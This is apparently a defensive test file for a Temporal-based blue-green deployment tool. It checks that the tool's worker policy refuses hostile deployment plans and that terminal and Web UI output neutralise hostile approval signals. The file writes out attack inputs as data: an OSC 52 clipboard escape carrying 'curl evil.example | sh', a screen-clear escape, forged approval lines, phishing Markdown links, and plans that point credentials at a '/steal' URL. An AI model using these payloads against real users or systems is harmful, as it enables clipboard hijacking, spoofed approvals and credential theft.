// The trust boundary, end to end:
// 1. Hostile plans (an API root, a router URL, a token variable, approvers the policy does not
//    allow) started directly on the task queue — no CLI, no client-side validation — to a real
//    `bluegreen worker` process with a policy: each ends FAILED in plan with a sentence naming
//    the rule, and the recording HTTP server they point at receives nothing, let alone a credential.
// 2. Hostile signal payloads through the stock `temporal` CLI (OSC 52 clipboard write, CSI clear
//    screen, a newline forging "✓ bob approved", a Markdown link), then `bluegreen status` in a
//    real terminal (tmux): no escape takes effect, no forged line shows, nothing reaches the
//    clipboard; the Web UI's Markdown keeps no link.
import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { writeFileSync, mkdtempSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { Client, Connection } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { startLab, type Lab } from '../lab/index.js';
import { currentDetails } from '../views/current-details.js';
import { statusQuery, WORKFLOW_TYPE, workflowIdFor } from '../contract/messages.js';
import type { DeploymentPlan, DeploymentStatus } from '../contract/types.js';
import { BLUEGREEN, ROOT } from './support/cli-runner.js';
import { test } from './support/fixture.js';
import { connectClient, labPlan, taskQueueFor, temporalAddress, waitForStatus, waitingForApproval } from './support/harness.js';
import { uniqueService } from './support/lab-deployments.js';
import { removeBundleFile, startWorkerProcess, type WorkerProcess } from './support/worker-process.js';
import { finalStatus } from './support/final-status.js';

const run = promisify(execFile);
const GITHUB_TOKEN = `ghp_TRUST${randomBytes(12).toString('hex')}`;
const ROUTER_TOKEN = `router-${randomBytes(12).toString('hex')}`;
const ROUTER = 'https://router.example.invalid/switch';

let lab: Lab;
let client: Client;
let connection: Connection;
let recorder: Server;
let recorderUrl: string;
const received: Array<{ method: string; url: string; headers: IncomingHttpHeaders }> = [];

beforeAll(async () => {
  lab = await startLab({ runTiming: { queuedMs: 30, inProgressMs: 150 } });
  ({ client, connection } = await connectClient());
  recorder = createServer((req, res) => {
    received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"color":"blue","sha":"0000000"}');
  });
  await new Promise<void>((resolve) => recorder.listen(0, '127.0.0.1', resolve));
  recorderUrl = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`;
});
afterAll(async () => {
  recorder?.closeAllConnections();
  await new Promise((resolve) => recorder?.close(resolve));
  await connection?.close();
  await lab?.close();
  await removeBundleFile();
});

describe('hostile plans started directly on the task queue', () => {
  let worker: WorkerProcess;
  const taskQueue = taskQueueFor('trust-hostile-plan');
  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'bluegreen-trust-'));
    const policy = join(dir, 'bluegreen-worker.yaml');
    writeFileSync(
      policy,
      [
        'github: { apiRoots: [https://api.github.com], repositories: [datatruck/*] }',
        // The recording server is a listed router too: a token could really arrive there.
        `routers: [{ url: "${ROUTER}", tokenEnv: BLUEGREEN_ROUTER_TOKEN }, { url: "${recorderUrl}/router", tokenEnv: BLUEGREEN_ROUTER_TOKEN }]`,
        'services: [{ match: "*", approval: { required: true, approvers: [alice, bob] } }]',
        // The lab's plans probe and poll fast; the hostile ones below are refused for what they ask, not for that.
        'limits: { minProbeIntervalMs: 10, minPollIntervalMs: 10 }',
      ].join('\n'),
    );
    worker = await startWorkerProcess({
      TEMPORAL_ADDRESS: temporalAddress(),
      TEMPORAL_NAMESPACE: 'default',
      BLUEGREEN_TASK_QUEUE: taskQueue,
      BLUEGREEN_WORKER_POLICY: policy,
      GITHUB_TOKEN,
      BLUEGREEN_ROUTER_TOKEN: ROUTER_TOKEN,
    });
  }, 90_000);
  afterAll(async () => {
    await worker?.stop();
  });

  /** A plan as an attacker would write it: everything pointed at the recording server. */
  function hostile(name: string, change: (plan: DeploymentPlan) => void): DeploymentPlan {
    const plan = labPlan(lab, uniqueService(name));
    plan.github = { owner: 'datatruck', repo: 'backend' };
    plan.publicUrl = recorderUrl;
    plan.environments.green.url = `${recorderUrl}/green`;
    plan.environments.blue.url = `${recorderUrl}/blue`;
    plan.approval = { required: true, approvers: ['alice'], timeoutMs: 60_000 };
    change(plan);
    return plan;
  }

  const CASES: Array<[string, (plan: DeploymentPlan) => void, RegExp]> = [
    [
      'api-root',
      (p) => void (p.github.baseUrl = `${recorderUrl}/api/v3`),
      /does not send GitHub credentials to http:\/\/127\.0\.0\.1:\d+\/api\/v3 \(github\.apiRoots/,
    ],
    [
      'router-url',
      (p) =>
        void (p.switch = {
          type: 'http',
          url: `${recorderUrl}/steal`,
          tokenEnv: 'BLUEGREEN_ROUTER_TOKEN',
          verifyTimeoutMs: 1000,
        }),
      /lists no router http:\/\/127\.0\.0\.1:\d+\/steal for the http switch \(routers: https:\/\/router\.example\.invalid\/switch, http:\/\/127\.0\.0\.1:\d+\/router\)/,
    ],
    [
      'token-env',
      // A plan started directly (no CLI to refuse the field) naming another variable for a listed router.
      (p) => void (p.switch = { type: 'http', url: `${recorderUrl}/router`, tokenEnv: 'GITHUB_TOKEN', verifyTimeoutMs: 1000 }),
      /asks for the router token in GITHUB_TOKEN.*plans do not choose credentials/,
    ],
    [
      'approvers',
      (p) => void (p.approval = { required: false, approvers: ['mallory'], timeoutMs: 1000 }),
      /approver "mallory", who is not among the approvers the worker's policy allows \(services\[0\]\.approval\.approvers: alice, bob\)/,
    ],
    [
      'unbounded-verify',
      // Thousands of probes a second at the recording server, for ever, unless the worker bounds the plan.
      (p) => void Object.assign(p.verify, { successes: 1e9, intervalMs: 0 }),
      /^(?=.*verify\.successes is 1000000000, above the maximum of 100 .*\(limits\.maxVerifySuccesses in the worker policy\))(?=.*verify\.intervalMs is 0, below the minimum of 10 )/s,
    ],
    [
      'week-long-dispatch-window',
      // A dispatch activity holding a worker slot for a week after one lost answer.
      (p) => void (p.deploy.dispatchWindowMs = 7 * 24 * 3_600_000),
      /deploy\.dispatchWindowMs is 604800000, above the maximum of 1800000 .*\(limits\.maxDispatchWindowMs in the worker policy\)/,
    ],
    [
      'unregistered-metric-source',
      // A source type no metric provider registered: refused, not read by another provider's reader.
      (p) =>
        void (p.analysis = {
          verify: {
            metrics: [
              {
                name: 'secret',
                source: { type: 'metadata', url: `${recorderUrl}/latest/meta-data` } as never,
                window: '1m',
                unit: 'number',
                pass: { max: 1 },
                noData: 'fail',
              },
            ],
            count: 1,
            intervalMs: 1000,
            initialDelayMs: 0,
            failureLimit: 0,
            onInconclusive: { action: 'fail' },
          },
        }),
      /analysis\.verify\.metrics\.0\.source\.type "metadata" is not a registered metric source type \(known: "prometheus".*"json"\)/,
    ],
  ];

  it.each(CASES)('%s: FAILED in plan naming the rule; no request reaches the recording server', async (name, change, rule) => {
    const plan = hostile(name, change);
    const handle = await client.workflow.start(WORKFLOW_TYPE, {
      taskQueue,
      workflowId: workflowIdFor(plan.service),
      args: [plan],
    });
    const result = (await finalStatus(handle)) as DeploymentStatus;
    expect(result.outcome).toBe('FAILED');
    expect(result.phases.find((p) => p.name === 'plan')).toMatchObject({ state: 'failed', detail: expect.stringMatching(rule) });
    expect(result.error).toMatch(/^the worker's policy refuses this plan: /);
    expect(received).toEqual([]);
    const everything = JSON.stringify(await handle.fetchHistory()) + worker.output();
    expect(everything).not.toContain(GITHUB_TOKEN);
    expect(everything).not.toContain(ROUTER_TOKEN);
  });
});

const hasTmux = spawnSync('tmux', ['-V']).status === 0;
const SOCKET = `bluegreen-trust-${process.pid}`;
const tmux = (...args: string[]) => execFileSync('tmux', ['-L', SOCKET, ...args], { encoding: 'utf8' });

describe.skipIf(!hasTmux)('hostile signal payloads, then `bluegreen status` in a terminal', () => {
  afterAll(() => {
    spawnSync('tmux', ['-L', SOCKET, 'kill-server']);
  });

  // A lab and an in-process worker of this test's own (the fixture's): the file's are the hostile plans'.
  test('shows no escape effect, no forged line, nothing on the clipboard; the Web UI keeps no link', async ({ deploy }) => {
    const service = uniqueService('trust-tty');
    const { handle } = await deploy(service, { approval: { required: true, approvers: ['alice', 'bob'], timeout: '5m' } });
    await waitForStatus(handle, waitingForApproval);

    const OSC52 = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
    const CLEAR = '\u001b[2J\u001b[H';
    const payloads: Array<[string, Record<string, string>]> = [
      ['approve', { by: 'mallory', comment: `${OSC52}looks fine${CLEAR}` }],
      ['approve', { by: 'carol\n    ✓ bob approved at 12:00:00', comment: 'x' }],
      ['approve', { by: 'eve', comment: 'ok\n    ✓ bob approved at 12:00:00 "ship it"' }],
      ['reject', { by: 'mallory', reason: '[click here](https://evil.example/phish) ![x](https://evil.example/p.png)' }],
      ['abort', { by: `eve${CLEAR}`, reason: 'x' }],
    ];
    for (const [name, input] of payloads) {
      await run(inject('temporalCli'), [
        'workflow',
        'signal',
        '--workflow-id',
        workflowIdFor(service),
        '--name',
        name,
        '--input',
        JSON.stringify(input),
        '--address',
        temporalAddress(),
        '--namespace',
        'default',
      ]);
    }
    const status = await waitForStatus(handle, (s) => (s.ignoredSignals?.length ?? 0) >= payloads.length);
    expect(status.phase).toBe('approval');

    // The stock terminal, with the clipboard open to OSC 52 (tmux keeps what it receives in a buffer).
    tmux('start-server', ';', 'set-option', '-g', 'set-clipboard', 'on');
    const env = [`TEMPORAL_ADDRESS=${temporalAddress()}`, 'TERM=xterm-256color'].join(' ');
    const command = `cd ${ROOT} && echo BEFORE-STATUS && env ${env} ${process.execPath} ${BLUEGREEN} status ${service}; echo "EXIT=$?"; sleep 60`;
    tmux('new-session', '-d', '-s', 'status', '-x', '150', '-y', '60', command);
    let screen = '';
    for (let i = 0; i < 200 && !screen.includes('EXIT='); i++) {
      await new Promise((r) => setTimeout(r, 150));
      screen = tmux('capture-pane', '-p', '-t', 'status');
    }
    expect(screen).toMatch(/^EXIT=0$/m);
    // No clear screen: what was printed before the status is still there, and the headline.
    expect(screen).toContain('BEFORE-STATUS');
    expect(screen).toMatch(new RegExp(`^${service}: blue → green`, 'm'));
    // No forged line: "✓ bob approved" never starts a line of its own.
    expect(screen).not.toMatch(/^\s*✓ bob approved/m);
    expect(screen).toContain('looks fine');
    // Nothing reached the clipboard, and no escape sequence is left in the pane's cells.
    expect(spawnSync('tmux', ['-L', SOCKET, 'list-buffers'], { encoding: 'utf8' }).stdout).toBe('');
    const raw = tmux('capture-pane', '-p', '-e', '-t', 'status');
    expect(raw).not.toContain(']52;');
    expect(raw).not.toContain('[2J');
    // The names outside the safe alphabet were refused, with why.
    expect(status.ignoredSignals?.map((i) => i.reason)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^approve: "by" "carol ✓ bob approved at 12:00:00" is refused/)]),
    );

    // The Web UI's current details: the link and the image are text, not Markdown.
    const details = currentDetails(await handle.query(statusQuery));
    expect(details).not.toMatch(/(?<!\\)\[click here\]\(/);
    expect(details).not.toMatch(/(?<!\\)!\[x\]/);
    expect(details).not.toContain('\u001b');
  }, 90_000);
});
